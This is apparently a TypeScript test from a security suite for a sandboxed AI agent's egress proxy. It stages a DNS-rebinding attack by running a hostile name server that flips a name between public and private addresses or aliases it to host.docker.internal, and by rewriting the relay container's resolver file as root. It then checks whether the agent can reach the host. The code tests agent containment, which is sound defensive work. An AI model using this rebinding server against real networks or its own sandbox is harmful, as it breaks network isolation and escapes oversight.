import type { Attack } from '../frame/attack.ts'
import { need } from '../frame/attack.ts'
import { docker } from '../frame/program.ts'
import type { Target } from '../frame/target.ts'
import { untilHolds } from '../../e2e/shell.ts'
import { gatewayOf, hostCanary, throughProxy, withEgress, WORD } from './_canary.ts'
import type { Through } from './_canary.ts'

const PUBLIC = '203.0.113.7'

/**
 * The name server of a hostile domain, each answer good for no time: under `flip` a public address and a private one in turns, under `both` the two
 * together, under `alias` another name that is private. All other names are passed on to the engine's own server, so that the relay goes on.
 */
const server = (inner: string, alias: string): string => `
const dgram = require('node:dgram')
const s = dgram.createSocket('udp4'), up = dgram.createSocket('udp4'), waiting = new Map()
let n = 0
const name = (q) => { const out = []; for (let i = 12; q[i]; i += q[i] + 1) out.push(q.subarray(i + 1, i + 1 + q[i]).toString('latin1')); return out.join('.').toLowerCase() }
const a = (ip) => Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4, ...ip.split('.').map(Number)])
const cname = (to) => { const d = Buffer.concat([...to.split('.').map((l) => Buffer.from([l.length, ...Buffer.from(l)])), Buffer.from([0])]); return Buffer.concat([Buffer.from([0xc0, 12, 0, 5, 0, 1, 0, 0, 0, 0, 0, d.length]), d]) }
up.on('message', (m) => { const to = waiting.get(m.readUInt16BE(0)); if (to) s.send(m, to.port, to.address) })
s.on('message', (q, from) => {
  const host = name(q)
  if (!host.endsWith('.rebind.example.org')) { waiting.set(q.readUInt16BE(0), from); up.send(q, 53, '127.0.0.11'); return }
  const end = q.indexOf(0, 12) + 5
  const kind = q.readUInt16BE(end - 4)
  const answers = host.startsWith('alias') ? [cname('${alias}')] : kind !== 1 ? [] : host.startsWith('both') ? [a('${PUBLIC}'), a('${inner}')] : [a(n++ % 2 ? '${inner}' : '${PUBLIC}')]
  if (kind === 1) console.log('answered', host, answers.length)
  s.send(Buffer.concat([q.subarray(0, 2), Buffer.from([0x81, 0x80, 0, 1, 0, answers.length, 0, 0, 0, 0]), q.subarray(12, end), ...answers]), from.port, from.address)
})
s.bind(53, '127.0.0.1', () => console.log('ready'))`

/** Has the container ask that server for names, as a host whose resolver leads to it would. @returns how to take it back. */
const askThere = async (t: Target, container: string): Promise<() => Promise<void>> => {
  const path = (await docker(['inspect', '--format', '{{.ResolvConfPath}}', container])).out.trim()
  const file = (script: string, input = '') => docker(['run', '--rm', '-i', '--network', 'none', '-u', '0', '-v', `${path}:/resolv`, '--entrypoint', 'sh', t.agentImage, '-c', script], { input })
  const before = await file('cat /resolv && echo "nameserver 127.0.0.1" >/resolv')
  need(before.code === 0, `the resolver's file could not be written: ${before.err}`)
  return async () => { await file('cat >/resolv', before.out) }
}

const attack: Attack = {
  tries: "reaches the host under a name of the agent's own domain, whose server answers the running relay with a public address and a moment later with a private one, with both at once, or with the name of a service of the stack (DNS rebinding)",
  success: 'the host or a service was reached under such a name',
  run: async (t) => {
    const evil = await t.agent()
    const canary = await hostCanary()
    const relay = t.service('relay')
    const name = `${t.install}-rebinder`
    const inner = await gatewayOf(t)
    try {
      const ran = await docker(['run', '-d', '--name', name, '--network', `container:${relay}`, '-u', '0', '--entrypoint', 'node', t.agentImage, '-e', server(inner, 'host.docker.internal')])
      need(ran.code === 0, `the name server did not start: ${ran.err}`)
      const log = async (): Promise<string> => (await docker(['logs', name])).out
      await untilHolds(20_000, async () => ((await log()).includes('ready') ? null : 'the name server is not ready'))
      const back = await askThere(t, relay)
      try {
        const hosts = Array.from({ length: 24 }, (_, i) => (i % 8 === 7 ? 'alias' : i % 8 === 3 ? 'both' : 'flip')).map((h, i) => `${h}${i}.rebind.example.org:${canary.port}`)
        const out = await withEgress(t, { egress: 'listed', egressAllow: [`*.rebind.example.org:${canary.port}`] }, () => evil.sh(throughProxy(hosts.map((connect) => ({ connect }))), { deadlineMs: 120_000 }))
        const said = JSON.parse(out) as Through[]
        const answered = (await log()).split('\n').filter((l) => l.startsWith('answered')).length
        const open = said.find((s) => s.text.includes(WORD))
        if (open || canary.seen.length > 0) return { through: `${open?.connect ?? 'the host'} was reached: ${canary.seen[0] ?? open?.text.slice(0, 200) ?? ''}` }
        const refused = said.filter((s) => / 403/.test(s.first)).length
        need(answered >= hosts.length && refused >= 6, `the names were not asked for, or did not turn: ${answered} answers, ${refused} refused: ${[...new Set(said.map((s) => s.first))].join(', ')}; ${await log()}`)
        return { held: `${hosts.length} connections, ${answered} answers of the hostile name server: ${refused} refused for a private address, the others dialled the public one that they had checked` }
      } finally {
        await back()
      }
    } finally {
      await docker(['rm', '-f', name])
      await canary.close()
    }
  },
}
export default attack
